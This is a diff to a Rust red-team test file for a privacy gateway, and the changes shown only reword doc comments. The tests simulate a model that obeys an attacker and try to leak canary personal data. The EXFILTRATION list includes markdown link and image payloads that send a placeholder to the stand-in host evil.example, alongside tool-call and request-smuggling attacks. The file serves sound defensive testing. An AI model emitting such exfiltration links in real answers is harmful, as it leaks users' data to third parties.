@@ -1,8 +1,8 @@
 //! Attacks on the gateway: `cargo test -p textveil-service red_team -- --nocapture` prints what leaked, which is nothing.
 //!
-//! Each attack is a request and a model that obeys the attacker. What the provider got must not hold the values of the
-//! request, and what the application gets must not carry them to somebody else. The values are canaries: no other text of
-//! the tests has them.
+//! Each attack is a request and a model that obeys the attacker. The provider must not receive the values of
+//! the request, and the application's answer must not carry them to a third party. The values are canaries:
+//! no other text of the tests contains them.
 
 use bytes::Bytes;
 use http::Request;
@@ -21,10 +21,10 @@ const EMAIL: &str = "zofie.dvorakova@canary.example";
 const IBAN: &str = "DE89 3704 0044 0532 0130 00";
 const CARD: &str = "4111 1111 1111 1111";
 
-/// What attackers read: hosts, tools and people that the caller never named.
+/// The attacker's host, tool and person, which the caller never named.
 const EVIL: &str = "evil.example";
 
-/// Whether a text holds a canary, in whatever form somebody could read it from.
+/// Whether a text contains a canary, in any readable form.
 fn holds_a_canary(text: &str) -> bool {
     let decoded = percent_decode_str(text).decode_utf8_lossy().replace("&#64;", "@").replace("\\u0040", "@");
     let compact: String = decoded.chars().filter(|letter| letter.is_alphanumeric()).collect();
@@ -61,9 +61,10 @@ fn shown(request: &Request<Bytes>) -> Vec<String> {
     found
 }
 
-/// What a model is made to do.
+/// The behaviour of the model.
 enum Attack {
-    /// It says this, with `@P` for the placeholder of a canary and `@T` for that of the URL which the tool told.
+    /// It answers with this text, with `@P` for the placeholder of a canary and `@T` for that of the URL in
+    /// the tool's result.
     Says(&'static str),
     /// It calls a tool of this name with these arguments.
     Calls(&'static str, &'static str),
@@ -109,7 +110,7 @@ impl Attack {
     }
 }
 
-/// A conversation with a canary of the user and one that only a tool tells.
+/// Returns a conversation with a canary of the user and one only in a tool's result.
 fn conversation() -> Value {
     let call =
         json!({ "id": "c1", "type": "function", "function": { "name": "read_mail", "arguments": "{}" } });
@@ -122,14 +123,14 @@ fn conversation() -> Value {
     ] })
 }
 
-/// The same in which only the tool tells a canary.
+/// Returns the same with a canary only in the tool's result.
 fn told_by_a_tool() -> Value {
     let mut conversation = conversation();
     conversation["messages"][1]["content"] = "What does my mail say?".into();
     conversation
 }
 
-/// What a model is made to say so that somebody else reads a value: each way that is known.
+/// Every known way in which an answer can leak a value to a third party.
 const EXFILTRATION: [(&str, Attack); 31] = [
     ("link", Attack::Says("[click](https://evil.example/?q=@P)")),
     ("image", Attack::Says("![x](https://evil.example/?q=@P)")),
@@ -190,7 +191,7 @@ impl Report {
     }
 }
 
-/// All that a model's answer says and calls, as an application puts it together.
+/// Returns all texts and calls of a model's answer, as an application joins them.
 fn answered(text: &str) -> String {
     let payloads = text.lines().filter_map(|line| line.strip_prefix("data: "));
     let chunks: Vec<Value> = payloads.filter_map(|payload| serde_json::from_str(payload).ok()).collect();
@@ -258,7 +259,7 @@ async fn red_team_tools() {
     report.assert_nothing_leaked(8);
 }
 
-/// A placeholder tells nothing to who cannot restore it, and nobody else can.
+/// A placeholder contains no data for those who cannot restore it, and only the gateway can.
 #[tokio::test]
 async fn red_team_placeholders() {
     let mut report = Report::default();
@@ -268,7 +269,7 @@ async fn red_team_placeholders() {
     let known: Vec<_> = known.into_iter().filter(|one| one.starts_with("[[EMAIL")).collect();
     let ask = |text: &str| json!({ "messages": [{ "role": "user", "content": text }] });
 
-    // said by somebody who was told it, in a request without the value
+    // repeated by someone who knows it, in a request without the value
     for (name, form) in [
         ("as it is", known[0].clone()),
         ("in small letters", known[0].to_lowercase()),
@@ -310,7 +311,7 @@ async fn red_team_placeholders() {
     report.assert_nothing_leaked(10);
 }
 
-/// What an application may put anywhere in a request, so that it is not looked at.
+/// Positions in a request that an application may use to evade inspection.
 #[tokio::test]
 async fn red_team_requests() {
     const SEAL: &str = "EqQBCgIYAhIM1gbcDa9GJwZA2b3h";
@@ -429,7 +430,7 @@ async fn red_team_requests() {
     report.assert_nothing_leaked(32);
 }
 
-/// Full-width digits as the ones that they stand for.
+/// Converts full-width digits to ASCII.
 fn fold(text: &str) -> String {
     let fold = |letter: char| match u32::from(letter) {
         code @ 0xff10..=0xff19 => char::from_u32(code - 0xff10 + u32::from('0')).unwrap(),
